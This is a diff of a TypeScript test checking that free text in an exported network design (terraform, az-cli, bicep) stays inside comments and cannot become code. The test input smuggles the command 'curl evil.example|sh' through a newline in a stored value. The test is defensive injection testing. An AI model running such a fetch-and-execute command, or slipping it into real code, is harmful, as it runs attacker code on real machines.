@@ -541,9 +541,10 @@ describe('what a plan holds cannot become code', () => {
     ['bicep', '//'],
   ] as const)('%s keeps a line break of free text inside its comment', (format, marker) => {
     const text = exportDesign(withBridge('172.17.0.1/16\ncurl evil.example|sh\n#'), format, 'a dump').text;
+    // The note on the Docker bridge, and the broken rule the stored value names: each one comment line.
     const lines = text.split('\n').filter((line) => line.includes('evil.example'));
-    expect(lines).toHaveLength(1);
-    expect(lines[0]?.trimStart().startsWith(marker)).toBe(true);
+    expect(lines).toHaveLength(2);
+    for (const line of lines) expect(line.trimStart().startsWith(marker)).toBe(true);
   });
 
   it.each(['terraform', 'az-cli', 'bicep'] as const)(
